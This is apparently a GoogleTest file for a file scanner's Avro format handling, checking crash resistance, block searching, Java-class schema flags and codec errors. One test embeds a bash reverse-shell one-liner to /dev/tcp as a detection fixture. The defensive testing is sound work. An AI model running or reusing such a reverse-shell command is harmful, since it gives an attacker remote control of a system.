#include "tests/support/corpus.hpp"
#include "tests/support/fuzz_format.hpp"
#include "tests/support/scan_bytes.hpp"

#include <gtest/gtest.h>

namespace hubgate {
namespace {

using namespace std::string_literals;
using test::find_rule;
using test::has_gap;
using test::is_clean;
using test::scan_bytes;
using test::show;

std::map<std::string, std::string> good() {
  return test::corpus("scanner/formats/avro/corpus", "good_");
}

TEST(Avro, every_codec_is_clean) {
  ASSERT_GE(good().size(), 3U);
  for (const auto& [name, bytes]: good()) {
    const Report report = scan_bytes(bytes);
    EXPECT_TRUE(is_clean(report)) << name << " " << show(report);
    EXPECT_EQ(report.format, "avro") << name;
  }
}

TEST(Avro, no_cut_and_no_byte_makes_it_crash) {
  for (const auto& [name, bytes]: good()) {
    for (std::size_t n = 0; n < bytes.size(); ++n) {
      std::string broken = bytes;
      broken[n] = static_cast<char>(broken[n] ^ 0x5a);
      EXPECT_FALSE(has_gap(scan_bytes(broken), Reason::crash)) << name << n;
      EXPECT_FALSE(has_gap(scan_bytes(bytes.substr(0, n)), Reason::crash)) << name << n;
    }
  }
}

// A file of one block of 100 records, without compression.
std::string plain(const std::string& data, const std::string& schema = "\"string\"") {
  const auto text = [](const std::string& value) {
    return static_cast<char>(value.size() * 2) + value;
  };
  const std::string sync(16, 's');
  return "Obj\1\2"s + text("avro.schema") + text(schema) + "\0"s + sync + "\2"s +
         static_cast<char>(data.size() * 2) + data + sync;
}

TEST(Avro, is_clean_at_the_end_of_a_block_only) {
  for (const auto& [name, bytes]: good()) {
    std::size_t clean = 0;
    for (std::size_t n = 5; n < bytes.size(); ++n)
      clean += is_clean(scan_bytes(std::string_view(bytes).substr(0, n))) ? 1 : 0;
    EXPECT_LE(clean, 3U) << name;
  }
}

TEST(Avro, blocks_are_searched) {
  EXPECT_TRUE(is_clean(scan_bytes(plain("\x0ahello"))));
  const Report report = scan_bytes(plain("\x50\0bash -i >& /dev/tcp/127.0.0.1/9 0>&1\0"s));
  EXPECT_NE(find_rule(report, "generic-script"), nullptr) << show(report);
}

TEST(Avro, a_java_class_in_the_schema_is_told) {
  const auto schema = [](const std::string& name) {
    return R"({"type":"string","java-class":")" + name + "\"}";
  };
  const Report report = scan_bytes(plain("\x0ahello", schema("javax.x.Y")));
  EXPECT_NE(find_rule(report, "avro-java-class"), nullptr) << show(report);
  EXPECT_TRUE(is_clean(scan_bytes(plain("\x0ahello", schema("java.lang.Byte")))));
}

TEST(Avro, a_wrong_marker_or_codec_is_never_clean) {
  std::string bytes = plain("\x0ahello");
  bytes.back() = 'x';
  EXPECT_NE(find_rule(scan_bytes(bytes + "more and more"), "avro-structure"), nullptr);
  EXPECT_FALSE(scan_bytes(bytes).complete());
  const std::string codec = "Obj\1\4\x16"s + "avro.schema\x02"s + "1" + "\x14"s + "avro.codec\x06" +
                            "lzo" + "\0"s + std::string(16, 's') + "\2\4ab" + std::string(16, 's');
  EXPECT_TRUE(has_gap(scan_bytes(codec), Reason::unsupported)) << show(scan_bytes(codec));
}

} // namespace
} // namespace hubgate
